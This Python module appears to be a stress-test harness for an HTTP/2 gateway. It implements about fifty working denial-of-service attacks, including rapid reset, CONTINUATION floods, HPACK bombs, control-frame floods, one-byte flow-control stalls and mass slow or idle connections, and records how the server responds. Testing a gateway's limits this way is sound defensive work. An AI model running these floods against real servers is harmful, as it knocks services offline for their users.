"""Attacks over HTTP/2, each by its own function: what is sent, for as long as it is let.

The rules that answer them stand beside the limits in the gateway's README. An attack gets a `Stage` and plays on it until its time is over or its
connection has gone; with nothing to send it sits there and waits.
"""

import select
import socket
import struct
import threading
import time
from dataclasses import dataclass
from collections.abc import Callable

from .wire import (
    CANCEL, CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, INITIAL_WINDOW_SIZE, PING, PREFACE, PRIORITY, block, code_name, data, frame, goaway,
    headers, literal, ping, priority, reset, settings, window)

BATCH = 256
LARGEST = 0x7FFF_FFFF


class Attacker:
    """One connection of an attacker, with a thread that reads, or does not."""

    def __init__(self, stage, pairs=(), reads=True, opens=True, receive_buffer=None):
        self.stage, self.over, self.goaway, self.is_reset = stage, None, None, False
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        if receive_buffer:
            self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
        self.socket.settimeout(5)
        self.socket.connect(stage.address)
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.socket.setblocking(False)
        stage.attackers.append(self)
        if opens:
            self.push(PREFACE + settings(*pairs) + settings(ack=True))
        if reads:
            threading.Thread(target=self.read, daemon=True).start()

    def read(self):
        """Throws away what comes, but for the code of GOAWAY."""
        rest = bytearray()
        while self.over is None:
            select.select([self.socket], [], [], 0.2)
            try:
                more = self.socket.recv(1 << 18)
            except BlockingIOError:
                if self.stage.is_over:
                    return
                continue
            except OSError:
                return self.end("reset")
            if not more:
                return self.end("closed")
            rest += more
            at = 0
            while len(rest) - at >= 9:
                length = int.from_bytes(rest[at:at + 3], "big")
                if len(rest) - at < 9 + length:
                    break
                if rest[at + 3] == GOAWAY and length >= 8:
                    code = int.from_bytes(rest[at + 13:at + 17], "big")
                    self.goaway = self.goaway or (code_name(code) if code else None)
                at += 9 + length
            del rest[:at]

    def end(self, how):
        if self.over is None:
            self.over = time.monotonic(), how

    def push(self, chunk):
        """Sends all of it, however long that takes; false once the time is over, or nothing can be sent. That the other side ends its half is no reason to stop."""
        view = memoryview(chunk)
        while view and not self.is_reset and not self.stage.is_over:
            try:
                count = self.socket.send(view)
                self.stage.sent += count
                view = view[count:]
            except BlockingIOError:
                select.select([], [self.socket], [], 0.2)
            except OSError:
                self.is_reset = True
                self.end("reset")
        return not self.is_reset and not self.stage.is_over

    def flood(self, chunks):
        for chunk in chunks:
            if not self.push(chunk):
                break


class Stage:
    def __init__(self, address, seconds, kit):
        self.address, self.seconds, self.kit = address, seconds, kit
        self.attackers, self.sent, self.refused = [], 0, 0
        self.begun = time.monotonic()
        self.finish = self.begun + seconds

    @property
    def is_over(self):
        return time.monotonic() >= self.finish

    def connect(self, pairs=(), **more):
        return Attacker(self, pairs, **more)

    def many(self, count, **more):
        """Up to so many connections: where no more are taken, those that were."""
        for _ in range(count):
            if self.is_over:
                break
            try:
                self.connect(**more)
            except OSError:
                self.refused += 1
                if self.refused > 20:
                    break
        return self.attackers

    def sit(self):
        """Until the time is over, or nobody is left."""
        while not self.is_over and any(one.over is None for one in self.attackers):
            time.sleep(0.05)

    def outcome(self):
        """How it went for the attacker."""
        alive = sum(one.over is None for one in self.attackers)
        codes = sorted({one.goaway for one in self.attackers if one.goaway})
        ends = [one.over[0] - self.begun for one in self.attackers if one.over]
        return {"sent": self.sent, "connections": len(self.attackers), "alive": alive, "codes": codes, "last": max(ends) if ends else None, "refused": self.refused}


# ---------------------------------------------------------------- what is sent

def numbers(first=1):
    """Batches of stream numbers."""
    at = first
    while at + 2 * BATCH < LARGEST:
        yield range(at, at + 2 * BATCH, 2)
        at += 2 * BATCH


def on_new_streams(stage, make, pairs=(), before=b"", **more):
    """A new stream, and what `make` has for it, over and over."""
    attacker = stage.connect(pairs, **more)
    attacker.push(before)
    attacker.flood(b"".join(make(stream) for stream in batch) for batch in numbers())


def over_and_over(stage, chunk, pairs=(), before=b"", **more):
    attacker = stage.connect(pairs, **more)
    attacker.push(before)
    chunk = chunk * max(1, 32_768 // len(chunk))
    while attacker.push(chunk):
        pass


def opener(stage, end=True, *more, method="GET", path=None):
    """A head that opens stream N, as fast as may be: all but the number is made before."""
    whole = headers(0, stage.kit.block(method, *more, **({"path": path} if path else {})), end=end)
    before, after = whole[:5], whole[9:]
    return lambda stream: before + struct.pack(">I", stream) + after


def large(stage):
    return stage.kit.path.rstrip("/") + "/64k"


def rapid_reset(stage):
    get = opener(stage)
    on_new_streams(stage, lambda stream: get(stream) + reset(stream))


def rapid_reset_of_uploads(stage):
    post = opener(stage, False, method="POST")
    on_new_streams(stage, lambda stream: post(stream) + data(stream, b"x" * 64) + reset(stream, CANCEL))


def made(offence, end=False):
    """Streams on which the client makes the server send the reset."""
    def play(stage):
        get = opener(stage, end)
        on_new_streams(stage, lambda stream: get(stream) + offence(stream))
    return play


def made_after_goaway(stage):
    get = opener(stage, False)
    on_new_streams(stage, lambda stream: get(stream) + window(stream, 0), before=goaway())


def made_by_malformed_heads(stage):
    get = opener(stage, True, ("connection", "close"))
    on_new_streams(stage, get)


def made_by_lengths(stage):
    post = opener(stage, False, ("content-length", "1"), method="POST")
    on_new_streams(stage, lambda stream: post(stream) + data(stream, b"test", end=True))


def refused_streams(stage):
    """More streams than there may be, none of which ends by itself."""
    on_new_streams(stage, opener(stage, False, method="POST"), pairs=((INITIAL_WINDOW_SIZE, 0),))


def continuation_flood(piece):
    def play(stage):
        over_and_over(stage, frame(CONTINUATION, 0, 1, piece), before=headers(1, stage.kit.block(), complete=False))
    return play


def hpack_bomb(stage):
    """A field of some 4,000 bytes in the table, and blocks of references to it."""
    field = b"\x40" + literal("x-bomb", "b" * 3900)[1:]
    get = lambda stream: headers(stream, stage.kit.block() + b"\xbe" * 16_000)
    seeded(stage, field, get)


def seeded(stage, field, get, pairs=((INITIAL_WINDOW_SIZE, 0),)):
    """The first request puts a field into the table, the others refer to it; windows are shut, so that nothing of theirs ends."""
    attacker = stage.connect(pairs)
    attacker.push(headers(1, stage.kit.block() + field))
    attacker.flood(b"".join(get(stream) for stream in list(batch)[:8]) for batch in numbers(3))
    stage.sit()


def references(field, count):
    """Requests with so many references of one byte each."""
    def play(stage):
        head = stage.kit.block(path=large(stage)) + b"\xbe" * count
        seeded(stage, b"\x40" + field[1:], lambda stream: headers(stream, head))
    return play


def pinned_responses(stage):
    """As many streams as there may be, each with many small fields, each with a large response that is never fetched."""
    attacker = stage.connect(((INITIAL_WINDOW_SIZE, 0),))
    head = stage.kit.block(path=large(stage)) + block([("x", "y")] * 100) + block([("cookie", "a=b")] * 200)
    for batch in numbers():
        if not attacker.push(b"".join(headers(stream, head) for stream in batch)):
            break
        time.sleep(0.1)
    stage.sit()


def shut_window(stage):
    attacker = stage.connect(((INITIAL_WINDOW_SIZE, 0),))
    get = opener(stage, path=large(stage))
    attacker.push(b"".join(get(2 * at + 1) for at in range(100)))
    stage.sit()


def window_of_one_byte(stage):
    """Asks for large responses, and for a byte of each at a time."""
    attacker = stage.connect(((INITIAL_WINDOW_SIZE, 1),))
    get = opener(stage, path=large(stage))
    attacker.push(b"".join(get(2 * at + 1) for at in range(100)))
    credit = b"".join(window(2 * at + 1, 1) for at in range(100))
    while attacker.push(credit):
        time.sleep(0.01)


def window_of_one_byte_slowly(stage):
    """The same below what frames that move nothing may be: a byte of twenty responses every two seconds."""
    attacker = stage.connect(((INITIAL_WINDOW_SIZE, 1),))
    get = opener(stage, path=large(stage))
    attacker.push(b"".join(get(2 * at + 1) for at in range(20)))
    credit = b"".join(window(2 * at + 1, 1) for at in range(20))
    while attacker.push(credit):
        for _ in range(20):
            if not stage.is_over:
                time.sleep(0.1)


def upload_of_one_byte(stage):
    """Twenty uploads that get a byte each every two seconds."""
    attacker = stage.connect()
    post = opener(stage, False, ("content-length", "100000"), method="POST")
    attacker.push(b"".join(post(2 * at + 1) for at in range(20)))
    while attacker.push(b"".join(data(2 * at + 1, b"x") for at in range(20))):
        for _ in range(20):
            if not stage.is_over:
                time.sleep(0.1)


def unread_responses(stage):
    """Windows wide open, and nothing is ever read."""
    attacker = stage.connect(((INITIAL_WINDOW_SIZE, LARGEST),), reads=False, receive_buffer=4096)
    get = opener(stage, path=large(stage))
    attacker.push(window(0, 1 << 30))
    attacker.flood(b"".join(get(stream) for stream in batch) for batch in numbers())
    stage.sit()


def open_streams(stage, count=100):
    post = opener(stage, False, method="POST")
    return b"".join(post(2 * at + 1) for at in range(count))


def settings_that_move_windows(stage):
    over_and_over(stage, settings((INITIAL_WINDOW_SIZE, 1)) + settings((INITIAL_WINDOW_SIZE, 65535)), before=open_streams(stage))


def frames_behind_an_error(stage):
    get = opener(stage)
    on_new_streams(stage, get, before=frame(PING, 0, 0, b"abc"))


def slow_preface(stage):
    """Connections that send a byte now and then, and never a whole preface."""
    for byte in range(len(PREFACE) - 1):
        if byte == 0:
            stage.many(200, opens=False)
        for one in stage.attackers:
            if one.over is None:
                one.push(PREFACE[byte:byte + 1])
        for _ in range(5):
            if not stage.is_over:
                time.sleep(0.1)
    stage.sit()


def no_preface(stage):
    stage.many(200, opens=False)
    stage.sit()


def half_a_head(stage):
    for one in stage.many(200):
        one.push(headers(1, stage.kit.block(), complete=False))
    stage.sit()


def half_a_frame(stage):
    for one in stage.many(200):
        one.push(frame(HEADERS, END_HEADERS | END_STREAM, 1, stage.kit.block()[:20], length=16_000))
    stage.sit()


def idle_connections(stage):
    stage.many(IDLE)
    stage.sit()


IDLE = 1000
COOKIE_CRUMB = literal("cookie", "a")
TINY = literal("a", "")
HOST = literal("host", "h")
PAD = frame(DATA, 8, 1, b"\xff" + bytes(255))


@dataclass
class Attack:
    name: str
    play: Callable
    ends: bool = True    # the connection has to go at once; otherwise a timeout may have to come first
    each: int = 0    # KiB that each connection may take, where there are many


def all_attacks():
    yield Attack("rapid reset", rapid_reset)
    yield Attack("rapid reset of uploads", rapid_reset_of_uploads)
    yield Attack("made to reset: WINDOW_UPDATE by 0", made(lambda stream: window(stream, 0)))
    yield Attack("made to reset: WINDOW_UPDATE by too much", made(lambda stream: window(stream, LARGEST)))
    yield Attack("made to reset: DATA behind the end", made(lambda stream: data(stream, b"x"), end=True))
    yield Attack("made to reset: HEADERS behind the end", made(lambda stream: headers(stream, literal("a", "b")), end=True))
    yield Attack("made to reset: PRIORITY of a wrong length", made(lambda stream: frame(PRIORITY, 0, stream, bytes(4)), end=True))
    yield Attack("made to reset: depends on itself", made(lambda stream: priority(stream, on=stream), end=True))
    yield Attack("made to reset: malformed heads", made_by_malformed_heads)
    yield Attack("made to reset: length and content differ", made_by_lengths)
    yield Attack("made to reset, behind the client's GOAWAY", made_after_goaway)
    yield Attack("more streams than allowed", refused_streams)
    yield Attack("CONTINUATION with fields, without end", continuation_flood(block([("x", "y" * 1000)] * 16)))
    yield Attack("CONTINUATION without a byte", continuation_flood(b""))
    yield Attack("CONTINUATION of a byte each", continuation_flood(b"\x82"))
    yield Attack("HPACK bomb: references to 4,000 bytes", hpack_bomb)
    yield Attack("bomb: 16,000 references to a tiny field", references(TINY, 16_000))
    yield Attack("bomb: 16,000 cookie crumbs", references(COOKIE_CRUMB, 16_000))
    yield Attack("bomb: 16,000 times a second Host", references(HOST, 16_000))
    yield Attack("bomb within the limits: 100 fields each", references(TINY, 100), ends=False)
    yield Attack("bomb within the limits: 250 crumbs each", references(COOKIE_CRUMB, 250), ends=False)
    yield Attack("pinned responses, windows shut", pinned_responses, ends=False)
    yield Attack("SETTINGS", lambda stage: over_and_over(stage, settings((INITIAL_WINDOW_SIZE, 65535))))
    yield Attack("SETTINGS without a setting", lambda stage: over_and_over(stage, settings()))
    yield Attack("SETTINGS that move 100 windows", settings_that_move_windows)
    yield Attack("SETTINGS with 2,000 settings", lambda stage: over_and_over(stage, settings(*[(0xFF, 1)] * 2000)))
    yield Attack("SETTINGS with ACK", lambda stage: over_and_over(stage, settings(ack=True)))
    yield Attack("PING", lambda stage: over_and_over(stage, ping()))
    yield Attack("PING, answers never read", lambda stage: over_and_over(stage, ping(), reads=False, receive_buffer=4096), ends=False)
    yield Attack("PING with ACK", lambda stage: over_and_over(stage, ping(ack=True)))
    yield Attack("DATA without a byte", lambda stage: over_and_over(stage, data(1), before=open_streams(stage, 1)))
    yield Attack("DATA of padding alone", lambda stage: over_and_over(stage, PAD, before=open_streams(stage, 1)))
    yield Attack("PRIORITY", lambda stage: over_and_over(stage, b"".join(priority(2 * at + 1) for at in range(100))))
    yield Attack("WINDOW_UPDATE of the connection", lambda stage: over_and_over(stage, window(0, 1)))
    yield Attack("WINDOW_UPDATE of a stream", lambda stage: over_and_over(stage, window(1, 1), before=open_streams(stage, 1)))
    yield Attack("RST_STREAM of an ended stream", lambda stage: over_and_over(stage, reset(1), before=opener(stage)(1) + reset(1)))
    yield Attack("frames of unknown types", lambda stage: over_and_over(stage, frame(0xEE, 0, 0, b"x")))
    yield Attack("GOAWAY", lambda stage: over_and_over(stage, goaway()))
    yield Attack("frames behind an error", frames_behind_an_error)
    yield Attack("responses never read", unread_responses, ends=False)
    yield Attack("windows shut, and silence", shut_window, ends=False)
    yield Attack("windows of a byte", window_of_one_byte, ends=False)
    yield Attack("windows of a byte, slowly", window_of_one_byte_slowly, ends=False)
    yield Attack("uploads of a byte, slowly", upload_of_one_byte, ends=False)
    yield Attack("no preface, 200 connections", no_preface, ends=False, each=20)
    yield Attack("a slow preface, 200 connections", slow_preface, ends=False, each=20)
    yield Attack("half a frame, 200 connections", half_a_frame, ends=False, each=20)
    yield Attack("half a head, 200 connections", half_a_head, ends=False, each=20)
    yield Attack(f"{IDLE:,} idle connections", idle_connections, ends=False, each=4)
